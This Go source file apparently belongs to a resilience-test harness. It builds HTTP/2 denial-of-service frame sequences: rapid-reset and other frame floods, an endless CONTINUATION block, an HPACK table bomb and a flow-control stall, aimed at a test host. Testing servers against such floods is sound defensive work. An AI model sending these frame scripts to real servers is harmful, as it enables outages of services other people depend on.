package abuse

import (
	"golang.org/x/net/http2"
)

// The names of floods that cost more than a frame each.
const (
	RapidReset        = "rapid reset"
	Malformed         = "malformed"
	EmptyData         = "empty data"
	EmptyContinuation = "empty continuation"
)

// Floods are frames without end that ask for nothing: rounds of one frame each, but
// for rapid resets, which are two.
func Floods() []H2 {
	flood := func(name string, open func(s *script), round func(s *script) func(int) []byte) H2 {
		s := newScript()
		if open != nil {
			open(s)
		}
		return H2{Name: name, Open: s.take(), Round: round(s)}
	}
	same := func(say func(s *script)) func(s *script) func(int) []byte {
		return func(s *script) func(int) []byte { return s.again(func() { say(s) }) }
	}
	post := func(s *script) { s.ask(1, "POST", "/up", false) }
	return []H2{
		flood("ping", nil, same(func(s *script) { _ = s.WritePing(false, [8]byte{}) })),
		flood("settings", nil, same(func(s *script) { _ = s.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16 << 10}) })),
		flood("window", nil, same(func(s *script) { _ = s.WriteWindowUpdate(0, 1) })),
		flood("unknown", nil, same(func(s *script) { _ = s.WriteRawFrame(0x77, 0, 0, nil) })),
		flood("priority update", nil, same(func(s *script) { _ = s.WriteRawFrame(0x10, 0, 0, []byte{0, 0, 0, 101, 'u', '=', '1'}) })),
		flood("old priority", nil, func(s *script) func(int) []byte {
			return s.each(func(i int) { _ = s.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: 0}) })
		}),
		flood(RapidReset, nil, func(s *script) func(int) []byte {
			return s.each(func(i int) {
				s.ask(uint32(2*i+1), "POST", "/up", true, "x", "y")
				_ = s.WriteRSTStream(uint32(2*i+1), http2.ErrCodeCancel)
			})
		}),
		flood(Malformed, nil, func(s *script) func(int) []byte {
			return s.each(func(i int) {
				_ = s.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: s.fields(":method", "GET"), EndHeaders: true, EndStream: true})
			})
		}),
		flood(EmptyData, post, same(func(s *script) { _ = s.WriteData(1, false, nil) })),
		flood("data on a closed stream", func(s *script) {
			_ = s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.fields(":method", "GET"), EndHeaders: true})
		}, same(func(s *script) { _ = s.WriteData(1, false, []byte("x")) })),
		flood(EmptyContinuation, func(s *script) {
			_ = s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x83}})
		}, same(func(s *script) { _ = s.WriteContinuation(1, false, nil) })),
	}
}

// BombPart is how much of a field block a round of ContinuationBomb has.
const BombPart = 8 << 10

// ContinuationBomb is a field block without end.
func ContinuationBomb() H2 {
	s := newScript()
	_ = s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0}})
	open := s.take()
	return H2{Name: "CONTINUATION", Open: open, Round: s.again(func() { _ = s.WriteContinuation(1, false, make([]byte, BombPart)) })}
}

// TableBomb is one large line of the decoder's table, referred to ten thousand times,
// and an honest request of stream 3 behind it.
func TableBomb() H2 {
	const firstDynamic = 0x80 | 62
	s := newScript()
	large := make([]byte, 3500)
	for i := range large {
		large[i] = 'v'
	}
	block := append([]byte(nil), s.fields(":method", "GET", ":scheme", "https", ":authority", "edge.test", ":path", "/page", "x", string(large))...)
	for range 10_000 {
		block = append(block, firstDynamic)
	}
	_ = s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: true, EndStream: true})
	s.ask(3, "GET", "/page", true)
	return H2{Name: "HPACK bomb", Open: s.take()}
}

// NobodyReads asks on and on with all the windows there are, and takes no byte.
func NobodyReads() H2 {
	const maxWindow, startWindow = 1<<31 - 1, 65_535
	s := newScript(http2.Setting{ID: http2.SettingInitialWindowSize, Val: maxWindow})
	_ = s.WriteWindowUpdate(0, maxWindow-startWindow)
	return H2{Name: "nobody reads", Open: s.take(), Deaf: true, Round: s.each(func(i int) { s.ask(uint32(2*i+1), "GET", "/page", true) })}
}
